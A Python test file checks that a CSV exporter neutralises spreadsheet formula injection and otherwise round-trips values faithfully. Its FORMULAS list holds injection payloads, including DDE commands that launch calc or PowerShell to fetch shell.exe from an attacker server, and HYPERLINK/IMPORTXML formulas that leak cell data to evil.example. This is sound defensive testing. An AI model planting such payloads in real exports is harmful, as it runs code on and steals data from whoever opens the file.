"""CSV that a spreadsheet opens without running anything, and that a program reads back unchanged."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pipeline.exports import csv_text, neutral_text

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
    "=AAAA+BBBB-CCCC&\"Hello\"/12345&cmd|'/c calc.exe'!A",
    "=         cmd|'/c calc.exe'!A",
    '=HYPERLINK("http://evil.example?x="&A1,"press")',
    '=IMPORTXML(CONCAT("http://evil.example?v=", A2), "//a/a10")',
    "+thespanishinquisition(cmd|'/c calc.exe'!A",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "＝1+1",
    "＠SUM(A1)",
]


def read_back(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_text_that_a_spreadsheet_would_run_gets_an_apostrophe_in_front(formula: str) -> None:
    [_, [cell]] = read_back(csv_text([{"title": formula}], ["title"]))
    assert cell == "'" + formula


@pytest.mark.parametrize("text", ["X is down", "3 = three", "40,000 reports", "'quoted'", "", "a\n=b", "€ 5"])
def test_a_harmless_text_is_written_to_the_letter(text: str) -> None:
    assert read_back(csv_text([{"title": text, "end": "."}], ["title", "end"]))[1][0] == text


def test_the_header_is_neutralised_too_since_an_analyst_may_name_a_column_anything() -> None:
    assert csv_text([], ["=1+1", "outlet"]) == "'=1+1,outlet\n"


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (-5, "-5"),
        (-0.5, "-0.5"),
        (40000.0, "40000"),
        (1e300, "1e+300"),
        (Decimal("-1.50"), "-1.50"),
        (True, "true"),
        (None, ""),
        (float("nan"), ""),
        (float("-inf"), "'-inf"),
        ("-5", "'-5"),
        (date(2025, 3, 10), "2025-03-10"),
        (datetime(2025, 3, 10, 9, 45, tzinfo=UTC), "2025-03-10T09:45:00Z"),
        (["reuters.example", "bbc.example"], "reuters.example | bbc.example"),
        (["=1+1"], "'=1+1"),
    ],
)
def test_numbers_stay_numbers_and_only_text_is_prefixed(value: object, written: str) -> None:
    assert csv_text([{"value": value, "end": "."}], ["value", "end"]).splitlines()[1] == f"{written},."


def test_columns_come_in_the_order_asked_for_and_a_missing_one_is_empty() -> None:
    rows = [{"b": 2, "a": 1, "c": 3}, {"a": 4}]
    assert csv_text(rows, ["a", "b"]) == "a,b\n1,2\n4,\n"


def test_commas_quotes_and_line_ends_inside_a_cell_do_not_make_new_cells() -> None:
    title = 'He said "down",\r\nthen "up"'
    assert read_back(csv_text([{"title": title, "outlet": "x.example"}], ["title", "outlet"]))[1] == [
        title,
        "x.example",
    ]


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00"), min_size=1), max_size=8))
def test_any_text_comes_back_as_one_cell_and_never_begins_like_a_formula(texts: list[str]) -> None:
    rows = read_back(csv_text([{"text": text} for text in texts], ["text"]))[1:]
    assert [cell for [cell] in rows] == [neutral_text(text) for text in texts]
    assert not [cell for [cell] in rows if cell.strip()[:1] in tuple("=+-@")]


@given(st.floats(allow_nan=False, allow_infinity=False) | st.integers())
def test_a_finite_number_comes_back_as_the_same_number(number: float) -> None:
    cell = csv_text([{"n": number}], ["n"]).splitlines()[1]
    assert type(number)(cell) == number
